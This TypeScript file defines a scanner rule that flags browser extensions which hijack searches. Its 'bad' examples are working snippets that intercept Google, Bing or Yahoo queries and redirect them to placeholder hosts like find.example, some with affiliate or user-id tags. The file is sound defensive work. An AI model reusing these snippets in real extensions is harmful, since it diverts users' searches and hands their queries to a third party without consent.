import { defineRule } from '../../rule.ts';
import { exampleRedirect } from '../manifest/manifestHit.ts';
import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
import { leftFromAnswers, ledByLists, ledByRules, ledFromTabs } from './searchesLed.ts';
import { followed } from './searchesFollowed.ts';

export const searchHijack = defineRule({
  id: 'search-hijack',
  title: 'Search hijacking: redirects searches to another service',
  severity: 'high',
  confidence: 'medium',
  category: 'code',
  applies: 'extension',
  cwe: 'CWE-506',
  references: [
    'https://attack.mitre.org/techniques/T1176/',
    'https://extensionworkshop.com/documentation/publish/add-on-policies/',
  ],
  why: 'Users ask one search engine and get another’s results. That service earns money with each search and sees the query.',
  remedy: 'Offer a search engine through the manifest’s settings override, which the browser asks about.',
  cap: { grade: 'D', reason: 'it redirects searches to another service', from: 'high' },
  *check(facts) {
    const declared = [...written(facts), ...ledByLists(facts)];
    yield* declared;
    yield* followed(facts, declared);
  },
  examples: {
    bad: [
      backgroundExample(
        'const go = (q) => ({ redirectUrl: "https://find.example/s?q=" + q }); chrome.webRequest.onBeforeRequest.addListener((d) => { const q = new URL(d.url).searchParams.get("q"); return q ? go(q) : {}; }, { urls: ["*://*.google.com/search*"] }, ["blocking"]);',
      ),
      contentExample(
        'const u = new URL(location.href); if (/(google|bing)\\./.test(u.host)) { const q = u.searchParams.get("q"); if (q) window.location = `https://find.example/s?q=${q}`; }',
        { content_scripts: [{ matches: ['<all_urls>'], js: ['content.js'] }] },
      ),
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "background.js", "type": "module"}, "chrome_settings_overrides": {"search_provider": {"name": "Find", "search_url": "https://find.example/s?q={searchTerms}", "is_default": true}}}',
          'background.js':
            'import { queryOf } from "./engines.js"; const parts = ["https:", "", "find.example", "s"]; chrome.webNavigation.onBeforeNavigate.addListener((d) => { const q = queryOf(d.url); if (!q) return; const u = new URL(parts.join("/")); u.searchParams.append("q", q); chrome.tabs.update(d.tabId, { url: u.href }); });',
          'engines.js':
            'const engines = [{ host: /(^|\\.)google\\./, param: "q" }, { host: /(^|\\.)bing\\.com$/, param: "q" }]; export function queryOf(href) { const u = new URL(href); const one = engines.find(({ host }) => host.test(u.hostname)); return one ? u.searchParams.get(one.param) : null; }',
        },
      },
      backgroundExample(
        'const pages = { "www.google.com": "q", "www.bing.com": "q", "search.yahoo.com": "p" }; chrome.webRequest.onBeforeRequest.addListener((d) => { const u = new URL(d.url); const asked = u.searchParams.get(pages[u.hostname]); if (!asked) return {}; const to = new URL("https://find.clock.example/r"); to.searchParams.set("k", asked); return { redirectUrl: to.href }; }, { urls: ["*://*.google.com/search*", "*://*.bing.com/search*"], types: ["main_frame"] }, ["blocking"]);',
      ),
      backgroundExample(
        'chrome.tabs.onUpdated.addListener((id, info) => { if (info.url && info.url.includes("google.com/search")) { const q = new URL(info.url).searchParams.get("q"); chrome.tabs.update(id, { url: "https://find.example/results?q=" + q }); } });',
      ),
      backgroundExample(
        'chrome.webRequest.onBeforeRequest.addListener((d) => { const m = /[?&]q=([^&]+)/.exec(d.url); return { redirectUrl: "https://find.example/s?q=" + m[1] + "&aff=7" }; }, { urls: ["*://*.bing.com/search*"] }, ["blocking"]);',
      ),
      contentExample(
        'const q = new URLSearchParams(location.search).get("q"); if (q) location.replace("https://quick.example/r?q=" + encodeURIComponent(q));',
        { content_scripts: [{ matches: ['*://www.google.com/search*'], js: ['content.js'] }] },
      ),
      backgroundExample(
        'chrome.webNavigation.onBeforeNavigate.addListener((d) => { const u = new URL(d.url); const p = { "www.google.com": "q", "www.bing.com": "q" }[u.hostname]; if (p) chrome.tabs.update(d.tabId, { url: "https://go.example/find?term=" + encodeURIComponent(u.searchParams.get(p)) }); });',
      ),
      backgroundExample(
        'const rules = ["google", "bing"].map((name, i) => ({ id: i + 1, condition: { regexFilter: `^https://www\\\\.${name}\\\\.com/search\\\\?q=([^&]+)`, resourceTypes: ["main_frame"] }, action: { type: "redirect", redirect: { regexSubstitution: "https://find.example/web?q=\\\\1" } } })); chrome.declarativeNetRequest.updateDynamicRules({ addRules: rules });',
      ),
      backgroundExample(
        'const ENGINES = [["^https?://(www\\\\.)?google\\\\.[a-z.]+/search\\\\?(.*&)?q=([^&]+).*", 3], ["^https?://(www\\\\.)?bing\\\\.com/search\\\\?q=([^&]+).*", 2]]; const rules = (uid) => ENGINES.map(([regexFilter, group], i) => ({ id: i + 1, action: { type: "redirect", redirect: { regexSubstitution: `https://find.example/s?uid=${uid}&q=\\\\${group}` } }, condition: { regexFilter, resourceTypes: ["main_frame"] } })); chrome.declarativeNetRequest.updateDynamicRules({ addRules: rules("1") });',
      ),
      exampleRedirect(
        { regexSubstitution: 'https://find.example/r?w=\\2' },
        { regexFilter: '^https://www\\.google\\.[a-z.]+/search\\?(.*&)?q=([^&]+)', resourceTypes: ['main_frame'] },
      ),
      exampleRedirect(
        { transform: { host: 'find.example' } },
        { urlFilter: '/search?', requestDomains: ['www.bing.com'], resourceTypes: ['main_frame'] },
      ),
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "background.js", "type": "module"}}',
          'background.js':
            'import { plan } from "./plan.js"; chrome.declarativeNetRequest.updateDynamicRules({ addRules: plan() });',
          'plan.js':
            'const rule = (id, regexFilter, to) => ({ id, action: { type: "redirect", redirect: { regexSubstitution: to } }, condition: { regexFilter } }); const HOME = "https://find.example/"; export const plan = () => ["google.com/search", "bing.com/search"].map((site, i) => rule(i + 1, `^https://www\\\\.${site}\\\\?(?:.*&)?q=([^&]+)`, `${HOME}m/${i}?w=\\\\1`));',
        },
      },
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "background.js", "type": "module"}}',
          'background.js':
            'import { asked, answers } from "./engines.js"; chrome.webNavigation.onCommitted.addListener(async (d) => { const words = asked(d.url); if (words) chrome.tabs.update(d.tabId, { url: await answers(words) }); });',
          'engines.js':
            'const KNOWN = { "www.google.com": "q", "www.bing.com": "q" }; const home = { host: "find.clock.example" }; export const asked = (address) => { const u = new URL(address); return u.searchParams.get(KNOWN[u.hostname]); }; export async function answers(words) { const u = new URL("/web", `https://${home.host}`); u.searchParams.set("w", words); return u.href; }',
        },
      },
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "background.js", "type": "module"}}',
          'background.js':
            'import { Router } from "./router.js"; const router = new Router(); router.on(/google\\.[^/]+\\/search/, "q").on(/bing\\.com\\/search/, "q"); chrome.webNavigation.onBeforeNavigate.addListener(({ tabId, url }) => { const term = router.match(url); if (term) chrome.tabs.update(tabId, { url: router.target(term) }); });',
          'router.js':
            'export class Router { #list = []; on(re, key) { this.#list.push({ re, key }); return this; } match(url) { const u = new URL(url); for (const { re, key } of this.#list) if (re.test(url)) return u.searchParams.get(key); } target(term) { const t = new URL("https://portal.example/results.aspx?gd=1"); t.searchParams.set("searchtext", term); return t.href; } }',
        },
      },
      contentExample(
        'const form = document.querySelector("textarea[name=q]").form; form.action = "https://plus.example/results"; form.method = "get";',
        { content_scripts: [{ matches: ['https://www.google.com/*'], js: ['content.js'] }] },
      ),
      backgroundExample(
        'chrome.webNavigation.onBeforeNavigate.addListener((d) => { const u = new URL(d.url); if (/google|bing/.test(u.hostname) && u.searchParams.get("q")) chrome.tabs.update(d.tabId, { url: "https://find.example/s?k=" + encodeURIComponent(u.searchParams.get("q")) }); });',
      ),
    ],
    good: [
      contentExample(
        'const u = new URL(location.href); if (/(google|bing)\\./.test(u.host) && u.searchParams.get("q") && !u.searchParams.has("udm")) window.location = `https://www.google.com/search?udm=14&q=${u.searchParams.get("q")}`;',
        { content_scripts: [{ matches: ['<all_urls>'], js: ['content.js'] }] },
      ),
      exampleRedirect(
        { regexSubstitution: 'https://www.google.com/search?udm=14&q=\\1' },
        { regexFilter: '^https://www\\.google\\.com/search\\?q=([^&]+)', resourceTypes: ['main_frame'] },
      ),
      backgroundExample(
        'const rule = (id, regexFilter, to) => ({ id, action: { type: "redirect", redirect: { regexSubstitution: to } }, condition: { regexFilter } }); chrome.declarativeNetRequest.updateDynamicRules({ addRules: [rule(1, "^https://www\\\\.google\\\\.com/url\\\\?q=([^&]+)", "\\\\1"), rule(2, "^https://www\\\\.google\\\\.com/amp/s/(.*)", "https://\\\\1")] });',
      ),
      contentExample(
        'const form = document.createElement("form"); form.action = "https://tool.example/feedback"; panel.append(form);',
        { content_scripts: [{ matches: ['https://www.google.com/*'], js: ['content.js'] }] },
      ),
      backgroundExample(
        'chrome.declarativeNetRequest.updateDynamicRules({ removeRuleIds: [1], addRules: [{ id: 1, condition: { regexFilter: "^https://www\\\\.google\\\\.com/amp/s/(.*)", resourceTypes: ["main_frame"] }, action: { type: "redirect", redirect: { regexSubstitution: "https://\\\\1" } } }] });',
      ),
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "background.js"}}',
          'background.js':
            'const providers = ["https://www.google.com/search?q=", "https://www.bing.com/search?q=", "https://find.example/search?q="]; chrome.tabs.onUpdated.addListener((id, info) => { if (info.url) chrome.tabs.update(id, { url: info.url.replace("http:", "https:") }); });',
        },
      },
      contentExample(
        'const q = new URLSearchParams(location.search).get("q"); link.onclick = () => { open("https://quick.example/r?q=" + q); };',
        { content_scripts: [{ matches: ['*://www.google.com/search*'], js: ['content.js'] }] },
      ),
      backgroundExample(
        'chrome.omnibox.onInputEntered.addListener((text) => chrome.tabs.create({ url: "https://www.google.com/search?q=" + encodeURIComponent(text) }));',
      ),
      backgroundExample(
        'chrome.contextMenus.onClicked.addListener((i) => chrome.tabs.create({ url: "https://find.example/?q=" + i.selectionText })); const engines = ["google.com/search"];',
      ),
      backgroundExample(
        'chrome.tabs.onUpdated.addListener((id, info) => { if (info.url === "https://www.google.com/") show(id); });',
      ),
    ],
  },
});

/** Where the script itself shows that searches are led away. */
const written = checkScripts(function* (judged) {
  yield* leftFromAnswers(judged);
  yield* ledByRules(judged);
  yield* ledFromTabs(judged);
});
